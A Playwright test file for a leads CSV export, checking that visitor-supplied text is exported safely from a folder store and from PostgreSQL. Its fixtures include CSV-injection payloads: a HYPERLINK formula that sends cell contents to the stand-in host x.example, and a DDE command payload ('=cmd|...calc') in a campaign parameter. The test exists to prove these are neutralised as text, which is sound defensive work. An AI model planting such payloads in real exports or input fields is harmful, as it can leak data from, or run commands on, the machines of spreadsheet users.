import { execFile } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { test as base, expect } from "@playwright/test";
import { parse } from "csv-parse/sync";
import { leadReference } from "~/lead-parts/reference";
import {
  importLeadsInto,
  type LeadFile,
  leadsCli,
  writeLeadFile,
  writeLeadWith,
} from "../support/lead-fixtures";
import { startPostgres, type TestPostgres } from "../support/postgres";

// `npm run leads -- --csv`, the built command on both stores: the same leads in a data folder
// and, imported by the product's own import, in a real PostgreSQL. Each export is parsed back
// with csv-parse and compared cell by cell with what the store holds.

const test = base.extend<object, { postgres: TestPostgres }>({
  postgres: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads a fixture's dependencies from this pattern; empty means none
    async ({}, use) => {
      const postgres = await startPostgres("pg-e2e-csv");
      await use(postgres);
      await postgres.dispose();
    },
    { scope: "worker", timeout: 90_000 },
  ],
});

const folders: string[] = [];
test.afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

function newStoreDir() {
  const folder = mkdtempSync(join(tmpdir(), "leads-csv-"));
  folders.push(folder);
  return join(folder, "data");
}

const HEADER = [
  "id",
  "received",
  "state",
  "emailjs",
  "webhook",
  "name",
  "e-mail",
  "country code",
  "phone",
  "message",
  "source",
  "click id",
  "reference",
];

/**
 * What the visitor (or a campaign link) wrote, with what the row should say of the lead besides.
 * The form refuses tabs and carriage returns, but leads stored by older releases or by hand
 * may hold them: the export does not count on the form.
 */
const FIXTURES = [
  {
    label: "plain, delivered",
    receivedAt: "2026-01-05T09:30:00.000Z",
    state: "sent",
    emailjs: "sent",
    webhook: "",
    // Line breaks alone, nothing else that needs quotes: the break itself must.
    // A 12-digit phone, which a spreadsheet would show as 9.19877E+11 unless it is text.
    enquiry: { name: "Meera Iyer", message: "Need a website\nand an app", phoneNumber: "919876543210" },
    shown: {},
    sourceLine: "direct",
    clickId: "",
    source: { landing: "/" },
  },
  {
    label: "formulas, commas, quotes, last millisecond of the day before --since",
    receivedAt: "2026-01-10T23:59:59.999Z",
    state: "sent",
    emailjs: "sent",
    webhook: "",
    enquiry: {
      name: '=HYPERLINK("http://x.example","Hi")',
      email: "-asha@example.in",
      message: '=HYPERLINK("http://x.example/?"&A1,"Open")\n+1, -2 and @SUM(A1:A9); "quoted", too',
    },
    // A ' wherever a cell could start: the text's start, after a line break or a separator.
    shown: {
      name: `'=HYPERLINK("http://x.example","Hi")`,
      email: "'-asha@example.in",
      message: `'=HYPERLINK("http://x.example/?"&A1,"Open")\n'+1,' -2 and @SUM(A1:A9); "quoted", too`,
    },
    sourceLine: "google / cpc / spring-launch",
    clickId: "gclid=Cj0KCQ-abc_123",
    source: {
      landing: "/",
      parameters: {
        utm_source: "google",
        utm_medium: "cpc",
        utm_campaign: "spring-launch",
        gclid: "Cj0KCQ-abc_123",
      },
    },
  },
  {
    label: "Hindi, emoji, CRLF and LF inside the message",
    receivedAt: "2026-01-11T00:00:00.000Z",
    state: "failed",
    emailjs: "failed",
    webhook: "",
    enquiry: {
      name: "आशा राव 🙏🏽",
      message: 'नमस्ते, "चेन्नई" वणक்கம்,\r\nsecond line\nthird 👍🏽 👨‍👩‍👧',
    },
    // A carriage return is a formula character, here after a comma.
    shown: { message: `नमस्ते, "चेन्नई" वणक்கம்,'\r\nsecond line\nthird 👍🏽 👨‍👩‍👧` },
    sourceLine: "linkedin.com (referral)",
    clickId: "",
    source: { referrer: "https://www.linkedin.com" },
  },
  {
    label: "quarantined, leading carriage returns",
    receivedAt: "2026-01-20T12:00:00.000Z",
    state: "spam",
    reason: "honeypot",
    emailjs: "",
    webhook: "",
    enquiry: { name: "\rcarriage", message: "\r\n=1+1" },
    shown: { name: "'\rcarriage", message: "'\r\n'=1+1" },
    sourceLine: "direct",
    clickId: "",
    source: { landing: "/services" },
  },
  {
    label: "to EmailJS and the webhook, failed at the webhook only",
    receivedAt: "2026-01-15T10:00:00.000Z",
    state: "failed",
    emailjs: "sent",
    webhook: "failed",
    destinations: { emailjs: "sent", webhook: "failed" },
    enquiry: { name: "Kiran 👋", message: '=1+2, "webhook"\nनमस्ते' },
    shown: { message: `'=1+2, "webhook"\nनमस्ते` },
    sourceLine: "direct",
    clickId: "",
    source: { landing: "/" },
  },
  {
    label: "+ and - first, a campaign link that carries a formula",
    receivedAt: "2026-02-01T08:00:00.000Z",
    state: "pending",
    emailjs: "pending",
    webhook: "",
    enquiry: { name: "+1 Sales", message: "-2 items" },
    shown: { name: "'+1 Sales", message: "'-2 items" },
    sourceLine: "'=cmd|'/C calc'!A0 / (not set)",
    clickId: "",
    source: { parameters: { utm_source: "=cmd|'/C calc'!A0" } },
  },
  {
    label: "@ and tab first, no EmailJS, from before sources were kept",
    receivedAt: "2026-02-02T08:00:00.000Z",
    state: "inbox",
    emailjs: "",
    webhook: "",
    enquiry: { name: "@SUM(A1:A9)", message: "\tleading tab\ra lone CR" },
    shown: { name: "'@SUM(A1:A9)", message: "'\tleading tab\ra lone CR" },
    sourceLine: "unknown",
    clickId: "",
    source: undefined,
  },
  {
    label: "to the webhook only, waiting for it",
    receivedAt: "2026-02-03T08:00:00.000Z",
    state: "pending",
    emailjs: "",
    webhook: "pending",
    destinations: { webhook: "pending" },
    // In a spreadsheet splitting on ; (most European locales), what follows the ; is a cell.
    enquiry: { name: "a;=1+1", message: "-1 day" },
    shown: { name: "a;'=1+1", message: "'-1 day" },
    sourceLine: "direct",
    clickId: "",
    source: { landing: "/" },
  },
  {
    label: "a name and a message a spreadsheet would read as a number and a date",
    receivedAt: "2026-02-04T08:00:00.000Z",
    state: "inbox",
    emailjs: "",
    webhook: "",
    enquiry: { name: "0000123", message: "01/02" },
    shown: { name: "'0000123", message: "'01/02" },
    sourceLine: "direct",
    clickId: "",
    source: { landing: "/" },
  },
] as const;

/** Writes the fixtures as the folder store keeps them; the stored leads by label. */
function writeFixtures(storeDir: string): Map<string, Stored> {
  const stored = new Map<string, Stored>();
  for (const fixture of FIXTURES) {
    const enquiry = {
      email: "asha@example.in",
      countryCode: "91",
      phoneNumber: "09876543210",
      ...fixture.enquiry,
    };
    if ("destinations" in fixture) {
      // Written as this release writes a lead with a webhook: each destination in its own state.
      const at = fixture.receivedAt;
      const destinations = Object.fromEntries(
        Object.entries(fixture.destinations).map(([name, state]) => [
          name,
          { state, attempts: 1, lastError: null, nextAttemptAt: at, queuedAt: at },
        ]),
      );
      const lead = writeLeadWith(storeDir, { enquiry, destinations, receivedAt: at, source: fixture.source });
      stored.set(fixture.label, lead);
      continue;
    }
    // Written as the release before destinations wrote it: read as EmailJS-only, or none.
    const { lead } = writeLeadFile(storeDir, {
      receivedAt: fixture.receivedAt,
      state: fixture.state,
      ...("reason" in fixture ? { reason: fixture.reason } : {}),
      ...(fixture.source ? { source: fixture.source } : {}),
      enquiry,
    });
    stored.set(fixture.label, lead);
  }
  return stored;
}

/** What the row is read from: the stored lead's id, time and fields. */
type Stored = Pick<LeadFile, "id" | "receivedAt" | "enquiry">;

/** The row the export should hold for a fixture, from the stored lead's own values. */
function expectedRow(fixture: (typeof FIXTURES)[number], lead: Stored): string[] {
  const { countryCode, phoneNumber } = lead.enquiry;
  // The visitor's text as the fixture says a spreadsheet is given it; unchanged when it says nothing.
  const shown: { name?: string; email?: string; message?: string } = fixture.shown;
  const { name, email, message } = { ...lead.enquiry, ...shown };
  return [
    lead.id,
    lead.receivedAt,
    fixture.state,
    fixture.emailjs,
    fixture.webhook,
    name,
    email,
    // Text in a spreadsheet: its leading zero and every digit kept.
    `'${countryCode}`,
    `'${phoneNumber}`,
    message,
    fixture.sourceLine,
    fixture.clickId,
    // The reference its sender was shown (tests/unit/lead-reference.test.ts pins the derivation).
    leadReference(lead.id),
  ];
}

type Cli = (args: string[]) => Promise<{ stdout: string; stderr: string }>;

/** Exports with `args` and reads the file back: BOM, CRLF records, header; the rows. */
async function exportRows(cli: Cli, args: string[]): Promise<string[][]> {
  const { stdout } = await cli(["--csv", ...args]);
  expect(stdout.startsWith("\uFEFF"), "a UTF-8 byte-order mark first").toBe(true);
  // Outside quoted cells, every line break ends a record, and is a CRLF.
  const unquoted = stdout.replace(/"(?:[^"]|"")*"/g, "");
  expect(unquoted, "records end in CRLF").toMatch(/\r\n$/);
  expect(unquoted, "no bare LF or CR between records").not.toMatch(/\r(?!\n)|(?<!\r)\n/);
  // Read as a spreadsheet reads it: any line break outside quotes ends a record, so a cell's
  // own line break left unquoted would split its row.
  const [header, ...rows] = parse(stdout, {
    bom: true,
    record_delimiter: ["\r\n", "\n", "\r"],
  }) as string[][];
  expect(header).toEqual(HEADER);
  return rows;
}

/** Every form of the export against one store holding the fixtures. */
async function checkExports(cli: Cli, stored: Map<string, Stored>) {
  const rowsOf = (...labels: string[]) =>
    labels.map((label) => {
      const fixture = FIXTURES.find((candidate) => candidate.label === label);
      const lead = stored.get(label);
      if (!fixture || !lead) throw new Error(`no fixture ${label}`);
      return expectedRow(fixture, lead);
    });
  const [plain, formulas, hindi, spam, webhookFailed, plusMinus, atTab, webhookOnly, values] = FIXTURES.map(
    (fixture) => fixture.label,
  ) as [string, string, string, string, string, string, string, string, string];

  // Every lead but the quarantine, oldest first, cell by cell.
  expect(await exportRows(cli, [])).toEqual(
    rowsOf(plain, formulas, hindi, webhookFailed, plusMinus, atTab, webhookOnly, values),
  );
  // From the first millisecond of 11 January in UTC.
  expect(await exportRows(cli, ["--since", "2026-01-11"])).toEqual(
    rowsOf(hindi, webhookFailed, plusMinus, atTab, webhookOnly, values),
  );
  expect(await exportRows(cli, ["--state", "sent"])).toEqual(rowsOf(plain, formulas));
  // The lead's own state: failed at the webhook though EmailJS has it.
  expect(await exportRows(cli, ["--state", "failed"])).toEqual(rowsOf(hindi, webhookFailed));
  expect(await exportRows(cli, ["--state", "pending"])).toEqual(rowsOf(plusMinus, webhookOnly));
  expect(await exportRows(cli, ["--state", "inbox", "--since", "2026-02-02"])).toEqual(rowsOf(atTab, values));
  expect(await exportRows(cli, ["--spam"])).toEqual(rowsOf(spam));
  expect(await exportRows(cli, ["--state", "spam"])).toEqual(rowsOf(spam));
  expect(await exportRows(cli, ["--spam", "--since", "2026-01-21"])).toEqual([]);

  // A date that is not one: a usage line naming the option, exit 2, nothing exported.
  for (const date of ["2026-02-30", "31-01-2026", "yesterday"]) {
    const refused = await cli(["--csv", "--since", date]).then(
      () => null,
      (error: { code?: number; stdout?: string; stderr?: string }) => error,
    );
    expect(refused?.code, date).toBe(2);
    expect(refused?.stdout, date).toBe("");
    expect(refused?.stderr, date).toMatch(
      /^leads: --since takes a calendar date in UTC, YYYY-MM-DD .*usage: /,
    );
  }
}

test("--csv on the data folder exports every lead cell by cell, formulas made text, with a BOM and CRLF, and each filter selects", async () => {
  const storeDir = newStoreDir();
  const stored = writeFixtures(storeDir);
  await checkExports((args) => leadsCli(storeDir, args), stored);
});

test("--csv with DATABASE_URL exports the same leads from PostgreSQL, cell by cell, and each filter selects", async ({
  postgres,
}) => {
  const folderDir = newStoreDir();
  const stored = writeFixtures(folderDir);
  const url = await postgres.createDatabase();
  await importLeadsInto(url, folderDir);
  // The command's own folder is empty: what it exports came from the database.
  const emptyDir = newStoreDir();
  await checkExports((args) => leadsCli(emptyDir, args, { DATABASE_URL: url }), stored);
});

test("--csv refuses a terminal (it would run a visitor's escape sequences) and --spam with another --state, before reading the store", async () => {
  const storeDir = newStoreDir();
  writeFixtures(storeDir);
  // `script` gives the command a terminal as its standard output, as a shell does.
  const command = `ENQUIRY_STORE_DIR='${storeDir}' '${process.execPath}' '${join(process.cwd(), "build/leads.js")}' --csv`;
  const onTerminal = await promisify(execFile)("script", ["-qec", command, "/dev/null"]).then(
    () => null,
    (error: { code?: number; stdout?: string }) => error,
  );
  expect(onTerminal?.code).toBe(2);
  expect(onTerminal?.stdout).toContain("leads: --csv writes a spreadsheet, not to a terminal");
  expect(onTerminal?.stdout).not.toContain("HYPERLINK");

  const both = await leadsCli(storeDir, ["--csv", "--spam", "--state", "sent"]).then(
    () => null,
    (error: { code?: number; stdout?: string; stderr?: string }) => error,
  );
  expect(both?.code).toBe(2);
  expect(both?.stdout).toBe("");
  expect(both?.stderr).toMatch(/^leads: --spam exports the quarantine.*not sent/);
});
